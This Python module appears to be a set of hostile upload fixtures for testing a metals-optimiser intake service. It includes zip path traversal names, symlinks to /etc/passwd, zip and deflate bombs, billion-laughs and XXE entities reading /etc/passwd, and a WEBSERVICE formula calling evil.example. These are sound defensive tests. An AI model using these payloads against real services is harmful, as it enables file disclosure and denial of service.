"""Files that somebody might send to break the service; each entry says what it is."""

from __future__ import annotations

import io
import stat
import struct
import tempfile
import zipfile
import zlib
from collections.abc import Callable, Mapping
from pathlib import Path

from optimiser.intake import write_template

LOTS = b"lot_id,mass_kg,Cu\nT-1,1000,0.1\n"
ORDERS = b"order_id,alloy,tap_kg\nH1,6060,500\n"


def zipped(*members: tuple[str | zipfile.ZipInfo, bytes]) -> bytes:
    """A zip of these members."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return out.getvalue()


def good_zip() -> bytes:
    """A folder that can be read."""
    return zipped(("lots.csv", LOTS), ("orders.csv", ORDERS))


def _info(name: str, *, mode: int = stat.S_IFREG | 0o644) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.external_attr = mode << 16
    info.compress_type = zipfile.ZIP_DEFLATED
    return info


def _named(name: str) -> bytes:
    return zipped((name, LOTS), ("orders.csv", ORDERS))


def _link(target: str) -> bytes:
    return zipped((_info("lots.csv", mode=stat.S_IFLNK | 0o777), target.encode()))


def _device(kind: int) -> bytes:
    return zipped((_info("lots.csv", mode=kind | 0o644), b""))


def _patched(content: bytes, *, local: Mapping[int, bytes], central: Mapping[int, bytes]) -> bytes:
    """``content`` with bytes of its first local and central header changed."""
    changed = bytearray(content)
    for begin, patches in (
        (changed.index(b"PK\x03\x04"), local),
        (changed.index(b"PK\x01\x02"), central),
    ):
        for offset, patch in patches.items():
            changed[begin + offset : begin + offset + len(patch)] = patch
    return bytes(changed)


def _encrypted() -> bytes:
    return _patched(good_zip(), local={6: b"\x01\x00"}, central={8: b"\x01\x00"})


def _method(number: int) -> bytes:
    packed = struct.pack("<H", number)
    return _patched(good_zip(), local={8: packed}, central={10: packed})


def _lying_size() -> bytes:
    """It says that it inflates to ten bytes, and inflates to 50 MB."""
    content = zipped(("lots.csv", LOTS + b" " * 50_000_000))
    return _patched(content, local={22: b"\x0a\0\0\0"}, central={24: b"\x0a\0\0\0"})


def _twice(first: str, second: str) -> bytes:
    content = zipped((first, LOTS), ("x" * len(second), LOTS), ("orders.csv", ORDERS))
    return content.replace(b"x" * len(second), second.encode())


def _nul_in_name() -> bytes:
    return zipped(("lots.csvx.txt", LOTS)).replace(b"lots.csvx.txt", b"lots.csv\0.txt")


def _overlapping() -> bytes:
    """Both entries of the directory lead to the same data."""
    content = bytearray(zipped(("lots.csv", LOTS), ("pins.csv", LOTS)))
    second = content.index(b"PK\x01\x02", content.index(b"PK\x01\x02") + 4)
    content[second + 42 : second + 46] = b"\0\0\0\0"
    return bytes(content)


ZIPS: Mapping[str, Callable[[], bytes]] = {
    "path that climbs": lambda: _named("../../etc/lots.csv"),
    "path that climbs inside": lambda: _named("a/../../lots.csv"),
    "absolute path": lambda: _named("/etc/lots.csv"),
    "path with backslashes": lambda: _named("..\\..\\lots.csv"),
    "drive letter": lambda: _named("C:lots.csv"),
    "stream of another file system": lambda: _named("lots.csv:hidden.csv"),
    "NUL in a name": _nul_in_name,
    "control character in a name": lambda: _named("lots\x1b[31m.csv"),
    "right-to-left mark in a name": lambda: _named("lots\u202evsc.csv"),
    "very long name": lambda: _named("l" * 60_000 + ".csv"),
    "link to a file of the system": lambda: _link("/etc/passwd"),
    "link to a folder": lambda: _link(".."),
    "character device": lambda: _device(stat.S_IFCHR),
    "pipe": lambda: _device(stat.S_IFIFO),
    "socket": lambda: _device(stat.S_IFSOCK),
    "zip in a zip": lambda: zipped(("more.zip", good_zip()), ("lots.csv", LOTS)),
    "zip called lots.csv": lambda: zipped(("lots.csv", good_zip())),
    "workbook in a zip": lambda: zipped(("a.xlsx", b"x"), ("lots.csv", LOTS)),
    "tar in a zip": lambda: zipped(("a.tar.gz", b"x"), ("lots.csv", LOTS)),
    "password": _encrypted,
    "packed as LZMA": lambda: _method(14),
    "packed as bzip2": lambda: _method(12),
    "packed in an unknown way": lambda: _method(99),
    "bomb of blanks": lambda: zipped(("lots.csv", LOTS + b" " * 90_000_000)),
    "bomb in many parts": lambda: zipped(
        *((f"t{index}.csv", b"a," * 8_000_000) for index in range(8))
    ),
    "size that lies": _lying_size,
    "two of one name": lambda: _twice("lots.csv", "lots.csv"),
    "two of one name but for case": lambda: _twice("lots.csv", "LOTS.csv"),
    "five hundred parts": lambda: zipped(*((f"p{index}.txt", b"") for index in range(500))),
    "nothing in it": zipped,
    "nothing of use": lambda: zipped(("photo.jpg", b"\xff\xd8")),
    "only folders": lambda: zipped(("a/", b""), ("a/b/", b"")),
    "entries that overlap": _overlapping,
    "cut in half": lambda: good_zip()[: len(good_zip()) // 2],
    "without its end": lambda: good_zip()[:-20],
    "only its end": lambda: b"PK\x05\x06" + bytes(18),
    "end that promises a directory": lambda: b"PK\x05\x06" + b"\xff" * 18,
    "bit turned in its data": lambda: good_zip()[:45] + b"\xff" + good_zip()[46:],
    "directory beyond its end": lambda: good_zip()[:-6] + b"\xff\xff\xff\x7f\0\0",
    "only its first bytes": lambda: b"PK\x03\x04",
    "unknown table": lambda: zipped(("melts.csv", LOTS), ("orders.csv", ORDERS)),
    "TOML that nests without end": lambda: zipped(
        ("scenario.toml", b"goals = " + b"[" * 50_000), ("lots.csv", LOTS)
    ),
    "TOML with a huge number": lambda: zipped(
        ("scenario.toml", b"seed = " + b"9" * 100_000), ("lots.csv", LOTS)
    ),
    "TOML that is none": lambda: zipped(("scenario.toml", b"\0\0"), ("lots.csv", LOTS)),
    "a table of delimiters": lambda: zipped(
        ("lots.csv", b",".join([b""] * 3_000) * 2_000), ("orders.csv", ORDERS)
    ),
    "UTF-16 table": lambda: zipped(("lots.csv", LOTS.decode().encode("utf-16"))),
    "table with NULs": lambda: zipped(("lots.csv", b"\0" * 1000), ("orders.csv", ORDERS)),
}
"""Zips: what each is, and how it is made."""


def _cell(reference: bytes) -> bytes:
    """A workbook with a cell at ``reference``."""
    return _workbook(b'<row r="1"><c r="' + reference + b'"><v>1</v></c></row>')


def _workbook(rows: bytes, **parts: bytes) -> bytes:
    """A workbook whose sheet lots has these rows."""
    relations = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    package = "http://schemas.openxmlformats.org/package/2006"
    book = (
        f'<workbook xmlns="{main}" xmlns:r="{relations}"><sheets>'
        '<sheet name="lots" sheetId="1" r:id="rId1"/></sheets></workbook>'
    )
    links = (
        f'<Relationships xmlns="{package}/relationships"><Relationship Id="rId1" '
        f'Type="{relations}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
    )
    types = (
        f'<Types xmlns="{package}/content-types"><Default Extension="xml" '
        'ContentType="application/xml"/></Types>'
    )
    sheet = f'<worksheet xmlns="{main}"><sheetData>'.encode() + rows + b"</sheetData></worksheet>"
    return zipped(
        ("[Content_Types].xml", types.encode()),
        ("xl/workbook.xml", book.encode()),
        ("xl/_rels/workbook.xml.rels", links.encode()),
        ("xl/worksheets/sheet1.xml", parts.get("sheet", sheet)),
    )


def _entities() -> bytes:
    """A few lines of XML that stand for billions."""
    lines = ['<!DOCTYPE w [<!ENTITY a0 "aaaaaaaaaa">']
    lines += [f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)]
    return ("".join(lines) + "]><worksheet>&a9;</worksheet>").encode()


def _outside() -> bytes:
    return b'<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]><worksheet>&a;</worksheet>'


def template() -> bytes:
    """The workbook that planners fill in."""
    path = Path("template.xlsx")
    with tempfile.TemporaryDirectory() as folder:
        write_template(Path(folder) / path)
        return (Path(folder) / path).read_bytes()


def three_gigabytes() -> bytes:
    """3 MB that inflate to 3 GB and say so: one packed piece of blanks, three hundred times."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = packer.compress(b" " * 10_000_000) + packer.flush(zlib.Z_FULL_FLUSH)
    piece = packer.compress(b" " * 10_000_000) + packer.flush(zlib.Z_FULL_FLUSH)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", first + piece * 299 + packer.flush())
        for name in ("xl/workbook.xml", "xl/_rels/workbook.xml.rels"):
            archive.writestr(name, "<a/>")
    deflated, size = struct.pack("<H", zipfile.ZIP_DEFLATED), struct.pack("<I", 3_000_000_000)
    return _patched(out.getvalue(), local={8: deflated, 22: size}, central={10: deflated, 24: size})


WORKBOOKS: Mapping[str, Callable[[], bytes]] = {
    "cell at the far corner": lambda: _cell(b"XFD1048576"),
    "cell beyond all corners": lambda: _cell(b"ZZZZZZ99999999999"),
    "cell at row nought": lambda: _cell(b"A0"),
    "cell without a name": lambda: _cell(b""),
    "entities that multiply": lambda: _workbook(b"", sheet=_entities()),
    "entity from a file": lambda: _workbook(b"", sheet=_outside()),
    "XML that is cut": lambda: _workbook(b"", sheet=b"<worksheet><sheetData>"),
    "XML that nests without end": lambda: _workbook(b"", sheet=b"<a>" * 300_000),
    "sheet of NULs": lambda: _workbook(b"", sheet=b"\0" * 100_000),
    "shared text that is not there": lambda: _workbook(
        b'<row r="1"><c r="A1" t="s"><v>99999999</v></c></row>'
    ),
    "style that is not there": lambda: _workbook(
        b'<row r="1"><c r="A1" s="4294967295"><v>1</v></c></row>'
    ),
    "number beyond floats": lambda: _workbook(b'<row r="1"><c r="A1"><v>1e999</v></c></row>'),
    "error in the header": lambda: _workbook(b'<row r="1"><c r="A1" t="e"><v>#REF!</v></c></row>'),
    "formula in the header": lambda: _workbook(
        b'<row r="1"><c r="A1"><f>WEBSERVICE("http://evil.example")</f></c></row>'
    ),
    "two thousand columns": lambda: _workbook(
        b'<row r="1">' + b'<c t="inlineStr"><is><t>x</t></is></c>' * 2_001 + b"</row>"
    ),
    "sheet without cells": lambda: _workbook(b""),
    "old .xls": lambda: b"\xd0\xcf\x11\xe0" + bytes(2_000),
    "PDF called workbook": lambda: b"%PDF-1.7\n",
    "web page called workbook": lambda: b"<html><table><tr><td>lot_id</td></tr></table></html>",
    "template cut in half": lambda: template()[:4_000],
    "template with a byte changed": lambda: template()[:3_000] + b"\0" + template()[3_001:],
}
"""Workbooks: what each is, and how it is made."""

CSVS: Mapping[str, bytes] = {
    "only blank lines": b"\n\n\n",
    "only a byte order mark": b"\xef\xbb\xbf",
    "UTF-16": LOTS.decode().encode("utf-16"),
    "Latin-1": b"lot_id,mass_kg\nM\xfcller,1\n",
    "overlong UTF-8": b"lot_id,mass_kg\n\xc0\x80,1\n",
    "half a surrogate": b"lot_id,mass_kg\n\xed\xa0\x80,1\n",
    "NULs": b"lot_id,mass_kg\n\0\0,1\n",
    "quote that never closes": b'lot_id,mass_kg\n"T-1,1\n' + b"x" * 200_000,
    "cell beyond the reader's field": b"lot_id,mass_kg\n" + b"x" * 200_000 + b",1\n",
    "header that stands twice": b"lot_id,lot_id,mass_kg\na,b,1\n",
    "header that is blank": b",,\n1,2,3\n",
    "ten thousand columns": b",".join([b"a"] * 10_000) + b"\n",
    "a million delimiters": b"lot_id,mass_kg\n" + b"," * 5_000_000,
    "a million lines": b"lot_id,mass_kg\n" + b"\n,\n" * 2_000_000,
    "number beyond floats": b"lot_id,mass_kg\nT-1,1e999\n",
    "NaN": b"lot_id,mass_kg\nT-1,NaN\n",
    "infinity": b"lot_id,mass_kg\nT-1,-Infinity\n",
    "number with units": b"lot_id,mass_kg\nT-1,10 t\n",
    "number of a hundred thousand digits": b"lot_id,mass_kg\nT-1," + b"9" * 100_000 + b"\n",
    "digits of another script": "lot_id,mass_kg\nT-1,\u0661\u0662\n".encode(),
    "negative mass": b"lot_id,mass_kg\nT-1,-5\n",
    "id with a slash": b"lot_id,mass_kg\n../../x,1\n",
    "unknown column": b"lot_id,mass_kg,__class__\nT-1,1,2\n",
    "a unit that is missing": b"lot_id,mass\nT-1,1\n",
    "JSON": b'{"lots": []}',
    "a picture": b"\x89PNG\r\n\x1a\n" + bytes(100),
    "date that is none": b"lot_id,mass_kg,available_from\nT-1,1,2026-13-45\n",
    "decimal comma": b"lot_id;mass_kg\nT-1;1,5\n",
}
"""CSV files of table lots: what each is, and what it holds."""
